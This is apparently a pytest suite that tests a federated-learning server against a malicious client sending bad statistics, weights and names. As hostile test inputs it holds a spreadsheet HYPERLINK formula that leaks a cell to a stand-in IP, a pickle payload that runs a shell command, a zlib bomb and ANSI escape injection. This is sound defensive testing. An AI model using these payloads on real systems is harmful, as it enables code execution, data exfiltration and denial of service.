"""One car of four answers badly, in each of the ways that took a model or ended a run: the others train on.

The stranger answers well where a case does not say otherwise, so that each case shows its own refusal.
"""

import io
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from flwr.app import Array, ArrayRecord, ConfigRecord, Message, MetricRecord, RecordDict

from fleven.app.model import weights_of
from fleven.app.server.bundle import Predictor
from fleven.app.settings import Settings
from fleven.app.simulation import SimulatedGrid

pytestmark = pytest.mark.training

Simulate = Callable[..., Any]
STRANGER = 5000
TERMINAL = "\x1b[31mEVIL\x1b[0m\x1b]0;pwned\x07\x1b[2J"
FORMULA = '=HYPERLINK("http://203.0.113.9/?"&A1,"car-1")'
STATISTICS = {"count": 1000, "mean": [2000.0, 20.0, 40.0, 30.0], "deviation": [1e8, 1e4, 1e5, 1e5]}
NUMBERS: dict[str, Any] = {
    "trips": 3, "rows": 1300, "rows-dropped": 0, "gaps": 0, "windows-train": 1000, "windows-test": 100, "seconds": 0.1,
    "cpu-seconds": 0.1, "peak-rss-bytes": 1000, "threads": 1, "train-loss": 0.1, "gradient-norm": 0.1, "steps": 3,
    "train-seconds": 0.1, "values": 100, "squared-error": 100.0, "absolute-error": 100.0, "target-mean": 30.0,
    "target-deviation": 1e4, "evaluate-seconds": 0.1,
}  # fmt: skip


def said(
    message: Message,
    *,
    statistics: dict[str, Any] | None = None,
    weights: Any = None,
    extra: dict[str, Any] | None = None,
    **changes: Any,
) -> Message:
    """Return an answer of the stranger's. changes: of what it states, and of its numbers (windows_train=…)."""
    stated: dict[str, Any] = {
        "partition-id": 7, "node-name": "evil", "error-code": "", "error-reason": "", "skipped-files": [],
        "versions": "",
    }  # fmt: skip
    numbers = dict(NUMBERS)
    for key, value in changes.items():
        (stated if key.replace("_", "-") in stated else numbers)[key.replace("_", "-")] = value
    record = RecordDict(
        {
            "car": ConfigRecord(stated),
            "numbers": MetricRecord({key: value for key, value in numbers.items() if value is not None}),
        }
    )
    if statistics is not None:
        record["statistics"] = MetricRecord(statistics)
    if weights is not None:
        record["model"] = ArrayRecord({"weights": weights if isinstance(weights, Array) else Array(weights)})
    for name, value in (extra or {}).items():
        record[name] = value
    return Message(record, reply_to=message)


def claim(shape: tuple[int, ...], dtype: str = "<f4", data: bytes = b"") -> Array:
    stream = io.BytesIO()
    np.lib.format.write_array_header_1_0(stream, {"descr": dtype, "fortran_order": False, "shape": shape})
    return Array("float32", shape, "numpy.ndarray", stream.getvalue() + data)


def bomb(_: Any) -> Array:
    return Array(np.frombuffer(zlib.compress(bytes(50_000_000), 9), dtype=np.uint8))


AT_QUERY: dict[str, dict[str, Any]] = {
    "stat-count-1e18": {"statistics": {"count": 10**18, "mean": [0.0, 0.0, 0.0, 1e6], "deviation": [1e18] * 4}},
    "stat-shape": {"statistics": {"count": 1000, "mean": [1.0, 2.0], "deviation": [1.0, 2.0]}},
    "stat-none": {"statistics": None},
    "reason-ansi": {"error_code": "data-missing", "error_reason": "no data " + TERMINAL},
    "reason-big": {"error_code": "data-missing", "error_reason": "x" * 20_000_000},
    "files-many": {"error_code": "data-empty", "skipped_files": ["x" * 1000] * 10_000},
    "partition-of-none": {"statistics": STATISTICS, "partition_id": -1},
}
AT_TRAIN: dict[str, dict[str, Any]] = {
    "windows-missing": {"windows_train": None},
    "windows-1e18": {"windows_train": 10**18, "weights": lambda w: np.full_like(w, 0.5)},
    "windows-nan": {"windows_train": float("nan")},
    "values-inf": {"values": float("inf")},
    "seconds-text": {"seconds": [1.0, 2.0]},
    "weights-1e30": {"weights": lambda w: np.full_like(w, 1e30)},
    "nan-weights": {"weights": lambda w: np.full_like(w, np.nan)},
    "shape": {"weights": lambda _: np.zeros(3, np.float32)},
    "npy-claim": {"weights": lambda _: claim((10**13,))},
    "npy-object": {"weights": lambda w: claim(w.shape, "|O", b"cposix\nsystem\n(S'touch pickled-ran'\ntR.")},
    "bomb": {"weights": bomb},
    "no-weights": {"weights": lambda _: None},
    "twin-in-a-round": {"partition_id": 0},
}


def grid_with(
    cars: list[Path], small: Callable[..., Settings], at_query: dict[str, Any], at_train: dict[str, Any], **changes: Any
) -> SimulatedGrid:
    """Return a grid of honest cars with one stranger more."""

    def answer(node_id: int, message: Message) -> Message:
        if node_id != STRANGER:
            raise LookupError
        kind = message.metadata.message_type
        if kind == "query":
            return said(message, **({"statistics": STATISTICS} | at_query))
        weights = message.content["model"]["weights"].numpy().astype(np.float32)
        if kind == "train":
            told = {"weights": lambda w: w} | at_train
            return said(message, **(told | {"weights": told["weights"](weights)}))
        return said(message)

    grid = SimulatedGrid.of_folders(cars, small(**changes).as_config(), answer)
    grid.node_configs[STRANGER] = {}
    return grid


@pytest.fixture
def cars(make_car: Callable[..., Path]) -> list[Path]:
    return [make_car(partition) for partition in range(3)]


def model_of(outcome: Any) -> Any:
    return weights_of(Predictor(outcome.files.results / "model.safetensors")._network)


@pytest.mark.parametrize("case", AT_QUERY)
def test_a_bad_answer_to_the_query_leaves_the_model_of_the_others(
    simulate: Simulate, cars: list[Path], small: Callable[..., Settings], case: str
) -> None:
    outcome = simulate(cars, grid=grid_with(cars, small, AT_QUERY[case], {}))
    result = outcome.read("result.json")
    assert result["state"] == "succeeded"
    assert result["contributions"] == {"1": [0, 1, 2], "2": [0, 1, 2]}
    (excluded,) = result["excluded"]
    assert excluded["error_code"] == AT_QUERY[case].get("error_code", "reply-invalid")
    assert excluded["node_name"] == "evil"
    assert len(excluded["reason"]) <= 500
    assert excluded["reason"].isprintable()
    assert np.array_equal(model_of(outcome), model_of(simulate(cars)))


@pytest.mark.parametrize("case", AT_TRAIN)
def test_a_bad_answer_in_a_round_excludes_that_car_by_name_and_code(
    simulate: Simulate, cars: list[Path], small: Callable[..., Settings], case: str
) -> None:
    compression = "lossless" if case == "bomb" else "none"
    grid = grid_with(cars, small, {}, AT_TRAIN[case], update_compression=compression)
    outcome = simulate(cars, grid=grid, update_compression=compression)
    result = outcome.read("result.json")
    assert result["state"] == "succeeded"
    assert result["contributions"] == {"1": [0, 1, 2], "2": [0, 1, 2]}
    (excluded,) = result["excluded"]
    assert (excluded["node_name"], excluded["partition_id"], excluded["error_code"]) == ("evil", 7, "reply-invalid")
    assert float(np.abs(model_of(outcome)).max()) < 2
    assert not Path("pickled-ran").exists()


@pytest.mark.parametrize("factor", [-20.0, 1e4])
def test_a_change_out_of_proportion_is_cut_and_its_car_named(
    simulate: Simulate, cars: list[Path], small: Callable[..., Settings], factor: float
) -> None:
    def push(weights: Any) -> Any:
        return (weights + factor * 0.05 * np.sign(weights)).astype(np.float32)

    grid = grid_with(cars, small, {}, {"weights": push})
    outcome = simulate(cars, grid=grid, rounds=3)
    result = outcome.read("result.json")
    (warning,) = [row for row in result["warnings"] if row["code"] == "update-cut"]
    assert (warning["node_name"], warning["rounds"]) == ("evil", [1, 2, 3])
    # It states so many windows that it has half of the average.
    assert "times as long as the median, was cut to 1 times" in warning["reason"]
    assert float(np.abs(model_of(outcome)).max()) < 2


def test_predictions_that_are_no_numbers_do_not_spoil_the_last_evaluation(
    simulate: Simulate, cars: list[Path], small: Callable[..., Settings]
) -> None:
    grid = grid_with(cars, small, {}, {})
    inner = grid._fault
    assert inner is not None

    def spoil(node_id: int, message: Message) -> Message | None:
        if node_id == STRANGER and message.metadata.message_type == "evaluate":
            spoilt = {"true": Array(np.full(10, np.nan, np.float32)), "predicted": Array(np.zeros(10, np.float32))}
            return said(message, extra={"predictions": ArrayRecord(spoilt)})
        return inner(node_id, message)

    grid._fault = spoil
    result = simulate(cars, grid=grid, draw=True).read("result.json")
    assert [(row["node_name"], row["error_code"]) for row in result["excluded"]] == [("evil", "reply-invalid")]
    assert len(result["plots"]) == 2
    assert result["notes"] == []


def test_of_a_twin_and_its_original_neither_is_believed(
    simulate: Simulate, cars: list[Path], small: Callable[..., Settings]
) -> None:
    result = simulate(cars, grid=grid_with(cars, small, {"partition_id": 0}, {"partition_id": 0})).read("result.json")
    assert result["contributions"] == {"1": [1, 2], "2": [1, 2]}
    assert {row["error_code"] for row in result["excluded"]} == {"duplicate-partition"}
    assert all("evil and node 1000 all say partition-id 0" in row["reason"] for row in result["excluded"])


@pytest.mark.parametrize("name", [FORMULA, "[/red][link=http://203.0.113.9]car-1[/link]", TERMINAL])
def test_a_name_is_text_and_nothing_else(
    simulate: Simulate, cars: list[Path], small: Callable[..., Settings], name: str
) -> None:
    outcome = simulate(cars, grid=grid_with(cars, small, {"node_name": name}, {"node_name": name}))
    assert outcome.read("result.json")["contributions"]["1"] == [0, 1, 2, 7]
    assert "\x1b" not in (outcome.files.metrics / "clients.csv").read_text()
    assert ',"=' not in (outcome.files.metrics / "clients.csv").read_text()


def test_weights_that_a_car_states_do_not_buy_it_the_model(
    simulate: Simulate, cars: list[Path], small: Callable[..., Settings]
) -> None:
    many = {"rows": 10**9, "windows_train": 9 * 10**8, "windows_test": 100}
    grid = grid_with(cars, small, many | {"statistics": STATISTICS}, many | {"weights": lambda w: np.full_like(w, 0.5)})
    outcome, honest = simulate(cars, grid=grid, rounds=3), simulate(cars, rounds=3)
    assert outcome.read("result.json")["contributions"]["1"] == [0, 1, 2, 7]
    with_it, without_it = (
        np.mean([car["rmse"] for car in run.read("result.json")["cars"] if car["partition_id"] < 3])
        for run in (outcome, honest)
    )
    assert with_it < 2 * without_it
